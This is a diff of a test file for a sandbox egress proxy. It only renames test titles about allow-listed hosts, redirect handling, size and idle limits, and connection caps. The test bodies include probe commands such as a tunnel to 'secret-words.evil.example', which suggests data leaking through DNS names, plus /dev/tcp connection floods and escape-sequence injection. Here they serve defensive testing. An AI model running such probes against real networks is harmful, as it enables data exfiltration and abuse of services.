@@ -111,7 +111,7 @@ test('a listed host is reached by plain HTTP and by CONNECT, and the record says
   })
 })
 
-test('a host that is not listed is refused, and its name is not even looked up', async () => {
+test('a host that is not listed is refused without a DNS lookup', async () => {
   const { output, asked, dialled, record } = await inSandbox(
     listed('good.example', '93.184.216.0/24'),
     `get http://other.example/; tunnel secret-words.evil.example:443; get http://notgood.example/; tunnel ${PUBLIC}:443 ${GET}`,
@@ -130,7 +130,7 @@ test('a host that is not listed is refused, and its name is not even looked up',
   })
 })
 
-test('public reaches any public host, and pins the address that was checked', async () => {
+test('mode public reaches any public host, and connects to the address that was checked', async () => {
   const { output, dialled, record } = await inSandbox(
     OPEN,
     `get http://other.example/x; tunnel good.example:443 ${GET}`,
@@ -172,7 +172,7 @@ test.each([
   }
 })
 
-test('a redirect to a private address comes back as it is, and is refused when it is followed', async () => {
+test('a redirect to a private address is passed on, and refused when followed', async () => {
   const { output } = await inSandbox(
     OPEN,
     'get http://good.example/away > /tmp/answer; cat /tmp/answer; get "$(sed -n "s/^location: //Ip" /tmp/answer | tr -d "\\r")"',
@@ -186,7 +186,7 @@ test('a name that does not exist is refused like a private one, so that internal
   expect(record.egress).toMatchObject({ connections: 0, refused: { count: 1 } })
 })
 
-test('a body without end is broken off, and nothing more goes out then', async () => {
+test('an endless body is cut off at the limit, and nothing more is sent', async () => {
   const { output, record } = await inSandbox(
     OPEN,
     'get http://good.example/huge | wc -c; tunnel good.example:443; get http://good.example/more',
@@ -200,7 +200,7 @@ test('a body without end is broken off, and nothing more goes out then', async (
   ])
 })
 
-test('a connection on which nothing moves is ended', async () => {
+test('an idle connection is closed', async () => {
   const { output } = await inSandbox(
     OPEN,
     'get http://good.example/never; echo first; tunnel good.example:443; echo second',
@@ -209,7 +209,7 @@ test('a connection on which nothing moves is ended', async () => {
   expect(output).toMatch(/first\n[\s\S]*second\n$/)
 })
 
-test('more connections than allowed are hung up on', async () => {
+test('connections beyond the limit are closed', async () => {
   const { output, record } = await inSandbox(
     OPEN,
     'for n in 1 2 3 4 5 6; do exec {fd}<>"/dev/tcp/127.0.0.1/31280"; done; timeout 5 cat <&$fd; echo over',
@@ -219,7 +219,7 @@ test('more connections than allowed are hung up on', async () => {
   expect(record.egress?.refused).toEqual({ count: 1, first: [{ host: '', reason: 'limit' }] })
 })
 
-test('what is shouted at the proxy is counted, and only the first of it is kept', async () => {
+test('invalid requests are counted, and only the first ones are recorded', async () => {
   const { record } = await inSandbox(
     OPEN,
     'for n in $(seq 150); do tunnel "10.0.0.$n:443" > /dev/null; done; tunnel "$(printf "%05000d" 0)$(printf "\\x1b[31m"):443"',
@@ -228,7 +228,7 @@ test('what is shouted at the proxy is counted, and only the first of it is kept'
   expect(record.egress?.refused.first).toHaveLength(100)
 })
 
-test('when the sandbox ends its connections end, and without a network there is no proxy', async () => {
+test('connections end with their sandbox, and without a network there is no proxy', async () => {
   const before = server.connections.length
   const { record } = await inSandbox(
     OPEN,
